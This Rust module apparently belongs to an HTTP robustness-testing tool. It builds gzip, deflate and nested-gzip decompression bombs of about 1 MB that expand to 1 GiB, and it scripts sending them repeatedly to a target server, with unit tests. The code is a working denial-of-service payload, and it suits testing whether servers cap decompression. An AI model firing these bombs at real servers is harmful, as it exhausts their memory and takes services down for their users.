//! Decompression bombs: about 1 MB on the wire that comes to 1 GiB of zeros.
//!
//! The bytes are made from one compressed MiB, repeated, as deflate blocks that begin at a byte and refer to nothing
//! before them may follow one another in any number (RFC 1951).

use std::io::Write as _;
use std::sync::OnceLock;

use flate2::write::GzEncoder;
use flate2::{Compress, Compression, Crc, FlushCompress};

use super::{Attack, Moment, PAUSE, PIECE_BYTES, Script, Step, head};

const MIB: usize = 1024 * 1024;

/// How many MiB a bomb comes to.
const BOMB_MIB: u32 = 1024;

pub(super) const ATTACK: Attack = Attack {
    name: "bomb",
    description: "1 MB of gzip, of deflate, or of gzip in gzip, that comes to 1 GiB; again after each answer",
    reads: true,
    pause: PAUSE,
    variants: &["gzip", "deflate", "gzip, gzip"],
    script: |target, variant| {
        let (encoding, body) = &bombs()[variant];
        let framing = format!("Content-Encoding: {encoding}\r\nContent-Length: {}", body.len());
        Box::new(Bomber { head: head(target, &framing), body, sent: 0, rounds: 0 })
    },
};

/// A bomb's request, sent again when it is answered.
struct Bomber {
    head: Vec<u8>,
    body: &'static [u8],
    /// Bytes of the body.
    sent: usize,
    /// Answers that came before this request.
    rounds: u64,
}

impl Script for Bomber {
    fn next(&mut self, moment: Moment, out: &mut Vec<u8>) -> Step {
        if self.sent == self.body.len() {
            if moment.answers <= self.rounds {
                return Step::WaitForAnswer;
            }
            self.rounds = moment.answers;
            self.sent = 0;
        }
        if self.sent == 0 {
            out.extend_from_slice(&self.head);
        }
        let end = (self.sent + PIECE_BYTES).min(self.body.len());
        out.extend_from_slice(&self.body[self.sent..end]);
        self.sent = end;
        Step::Send
    }
}

/// The value of `Content-Encoding` and the body of each bomb, made once.
fn bombs() -> &'static [(&'static str, Vec<u8>); 3] {
    static BOMBS: OnceLock<[(&str, Vec<u8>); 3]> = OnceLock::new();
    BOMBS.get_or_init(|| {
        [("gzip", gzip(BOMB_MIB)), ("deflate", zlib(BOMB_MIB)), ("gzip, gzip", nested(BOMB_MIB))]
    })
}

/// A MiB of zeros as deflate blocks that end at a byte.
fn deflated_mib() -> Vec<u8> {
    let mut out = Vec::with_capacity(4096);
    let mut deflate = Compress::new(Compression::best(), false);
    // In memory, with room to spare: a fault would show in the tests, which inflate it.
    let _whole = deflate.compress_vec(&vec![0; MIB], &mut out, FlushCompress::Full);
    out
}

/// `mib` MiB of zeros: blocks, and the empty last one.
fn deflated(mib: u32) -> Vec<u8> {
    let mut blocks = deflated_mib().repeat(mib as usize);
    blocks.extend_from_slice(&[0x03, 0x00]);
    blocks
}

/// With the head and tail of gzip (RFC 1952).
fn gzip(mib: u32) -> Vec<u8> {
    let mut part = Crc::new();
    part.update(&vec![0; MIB]);
    let mut crc = Crc::new();
    for _ in 0..mib {
        crc.combine(&part);
    }
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
    bytes.append(&mut deflated(mib));
    bytes.extend_from_slice(&crc.sum().to_le_bytes());
    bytes.extend_from_slice(&(mib * 1024 * 1024).to_le_bytes());
    bytes
}

/// With the head and tail of zlib (RFC 1950), which is what `Content-Encoding: deflate` means (RFC 9110).
fn zlib(mib: u32) -> Vec<u8> {
    let mut bytes = vec![0x78, 0xda];
    bytes.append(&mut deflated(mib));
    // Adler-32 of n zeros: a stays 1, b adds it n times.
    let b = u32::try_from(u64::from(mib) * 1024 * 1024 % 65521).unwrap_or(0);
    bytes.extend_from_slice(&(b << 16 | 1).to_be_bytes());
    bytes
}

/// Gzip in gzip: the repeated blocks of the inner one shrink again.
fn nested(mib: u32) -> Vec<u8> {
    let mut outer = GzEncoder::new(Vec::new(), Compression::best());
    // Into memory: it can't fail.
    let _infallible = outer.write_all(&gzip(mib));
    outer.finish().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::{GzDecoder, ZlibDecoder};

    use super::*;

    /// How many zeros it inflates to.
    fn zeros(mut from: impl Read) -> usize {
        let (mut buffer, mut count) = (vec![0; 64 * 1024], 0);
        loop {
            let read = from.read(&mut buffer).unwrap();
            if read == 0 {
                return count;
            }
            assert!(buffer[..read].iter().all(|&byte| byte == 0));
            count += read;
        }
    }

    #[test]
    fn bombs_are_sound_down_to_their_checksums() {
        assert_eq!(zeros(GzDecoder::new(&gzip(3)[..])), 3 * MIB);
        assert_eq!(zeros(ZlibDecoder::new(&zlib(3)[..])), 3 * MIB);
        assert_eq!(zeros(GzDecoder::new(GzDecoder::new(&nested(3)[..]))), 3 * MIB);
    }

    #[test]
    fn a_gib_is_about_a_mb_and_nested_far_less() {
        for body in [gzip(BOMB_MIB), zlib(BOMB_MIB)] {
            assert!((1_000_000..1_200_000).contains(&body.len()), "{}", body.len());
        }
        assert!(nested(BOMB_MIB).len() < 20_000);
    }

    #[test]
    fn a_bomb_is_sent_again_after_each_answer() {
        static BODY: [u8; PIECE_BYTES + 1] = [7; PIECE_BYTES + 1];
        let mut script = Bomber { head: b"HEAD".to_vec(), body: &BODY, sent: 0, rounds: 0 };
        let mut out = Vec::new();
        let mut next = |answers| {
            out.clear();
            let step = script.next(Moment { since: std::time::Duration::ZERO, answers }, &mut out);
            (step, out.len())
        };
        assert_eq!(next(0), (Step::Send, 4 + PIECE_BYTES));
        assert_eq!(next(0), (Step::Send, 1));
        assert_eq!(next(0), (Step::WaitForAnswer, 0));
        assert_eq!(next(1), (Step::Send, 4 + PIECE_BYTES));
        assert_eq!(next(1), (Step::Send, 1));
        assert_eq!(next(1), (Step::WaitForAnswer, 0));
    }
}
